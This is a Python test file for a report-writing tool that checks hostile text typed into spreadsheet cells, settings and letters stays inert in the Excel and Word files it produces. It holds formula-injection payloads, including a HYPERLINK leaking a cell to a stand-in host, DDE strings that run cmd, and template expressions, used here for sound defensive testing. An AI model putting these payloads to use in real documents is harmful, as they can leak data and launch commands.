"""Nothing that stands in a cell or a letter is ever run: not as a formula in a workbook we write,
not as a field in Word, not as a template. See docs/security.md."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from typer.testing import CliRunner

from selfassess.cli import app
from selfassess.write.excel.book import new_book, to_bytes
from selfassess.write.excel.look import put

TEMPLATE = "{{ 70001 * 130003 }} {% for x in range(3) %}again{% endfor %}"
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    f"=DDE({TEMPLATE})",
    f"Timeliness fell. {TEMPLATE} </w:t><w:instrText>DDEAUTO cmd</w:instrText>",
)
# Sheet and heading under which people type freely, by workbook.
FREE = {
    "plan.xlsx": ("Action", "Progress so far", "Owner"),
    "findings.xlsx": ("Finding as printed",),
    "voice.xlsx": ("What was said", "What was done", "Summary"),
}
OUR_FIELDS = {"TOC", "PAGE", "NUMPAGES", "PAGEREF", "SEQ", "REF", "STYLEREF", "HYPERLINK"}
FORMULA = re.compile(rb"<f[\s>/]")


def formulas_in(data: bytes) -> list[str]:
    """The parts of a package, and of packages in it, that would be calculated or run."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            part = package.read(name)
            if name.endswith(".xlsx"):
                found += formulas_in(part)
            sheet = "worksheets/" in name and FORMULA.search(part)
            if sheet or "externalLink" in name or "vbaProject" in name or "activeX" in name:
                found.append(name)
    return found


def spoil(folder: Path) -> int:
    """Puts hostile words into the free text of a workspace, as text; says into how many cells."""
    spoilt = 0
    for file, heads in FREE.items():
        path = folder / "inputs" / file
        book = load_workbook(path)
        for cell in free_cells(book, heads):
            cell.value = HOSTILE[spoilt % len(HOSTILE)]
            cell.data_type = "s"
            spoilt += 1
        book.save(path)
    settings = folder / "selfassess.toml"
    text = settings.read_text(encoding="utf-8")
    settings.write_text(re.sub(r'(?m)^name = ".*"$', 'name = "=1+1"', text, count=1), "utf-8")
    return spoilt


def free_cells(book: Workbook, heads: tuple[str, ...]) -> Iterator[Cell]:
    for ws in book.worksheets:
        wanted = [c.column for c in ws[1] if isinstance(c.value, str) and c.value.strip() in heads]
        for row in range(3, min(ws.max_row, 12) + 1):
            yield from (ws.cell(row, c) for c in wanted if ws.cell(row, c).value is not None)


@pytest.fixture(scope="module")
def spoilt(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace full of hostile words after every command that writes has run on it."""
    import shutil

    from tests.conftest import SAMPLE

    folder = tmp_path_factory.mktemp("hostile") / "northmere"
    shutil.copytree(SAMPLE, folder)
    assert spoil(folder) > 20
    letter = folder / "inputs" / "letters" / "northmere-focused-visit-2021-11-02.txt"
    words = letter.read_text(encoding="utf-8")
    letter.write_text(words.replace("Leaders", "=1+1 Leaders"), encoding="utf-8")
    before = {p: p.read_bytes() for p in folder.rglob("*.xlsx")}
    for line in (["draft"], ["findings", "-w"], ["readiness"], ["draft"]):
        if line[0] in {c.name or c.callback.__name__ for c in app.registered_commands}:
            done = CliRunner().invoke(app, [*line, str(folder)])
            assert done.exit_code in (0, 1), (line, done.output[-800:])
    CliRunner().invoke(app, ["new", str(folder.parent / "made"), "--name", "=1+1"])
    for path, data in before.items():  # only what the tool itself wrote is looked at
        if path.read_bytes() == data:
            path.unlink()
    return folder.parent


def test_no_workbook_that_we_write_holds_a_formula(spoilt: Path) -> None:
    written = list(spoilt.rglob("*.xlsx"))
    assert len(written) >= 6
    assert {p.name: found for p in written if (found := formulas_in(p.read_bytes()))} == {}


def test_hostile_words_stand_in_the_evidence_as_they_were_typed(spoilt: Path) -> None:
    path = spoilt / "northmere" / "outputs" / "evidence.xlsx"
    book = load_workbook(path)
    texts = [c.value for ws in book for row in ws.iter_rows() for c in row if c.value]
    said = " ".join(map(str, texts))
    assert "70001 * 130003" in said
    assert str(70001 * 130003) not in said
    assert {c.data_type for ws in book for row in ws.iter_rows() for c in row} <= {"s", "n", "d"}


def test_word_documents_hold_no_field_but_our_own_and_no_outside_part(spoilt: Path) -> None:
    documents = list((spoilt / "northmere" / "outputs").glob("*.docx"))
    assert documents
    for path in documents:
        with zipfile.ZipFile(path) as package:
            names = package.namelist()
            xml = b"".join(package.read(n) for n in names if n.endswith(".xml")).decode()
            rels = b"".join(package.read(n) for n in names if n.endswith(".rels")).decode()
        fields = re.findall(r"<w:instrText[^>]*>\s*(\w+)|w:instr=\"\s*(\w+)", xml)
        kinds = {one or other for one, other in fields}
        assert kinds <= OUR_FIELDS
        assert 'TargetMode="External"' not in rels
        assert not [n for n in names if "vbaProject" in n or "activeX" in n or "oleObject" in n]
        assert formulas_in(path.read_bytes()) == []
        assert str(70001 * 130003) not in xml
        assert "againagain" not in xml


@pytest.mark.parametrize("text", HOSTILE)
def test_text_put_into_a_cell_stays_text(text: str) -> None:
    book = new_book("A test")
    put(book.create_sheet("Sheet"), 1, 1, text)
    data = to_bytes(book)
    assert formulas_in(data) == []
    assert load_workbook(io.BytesIO(data))["Sheet"]["A1"].value == text


def test_a_formula_would_be_noticed() -> None:
    book = new_book("A test")
    book.create_sheet("Sheet")["A1"] = "=1+1"
    assert formulas_in(to_bytes(book)) == ["xl/worksheets/sheet1.xml"]
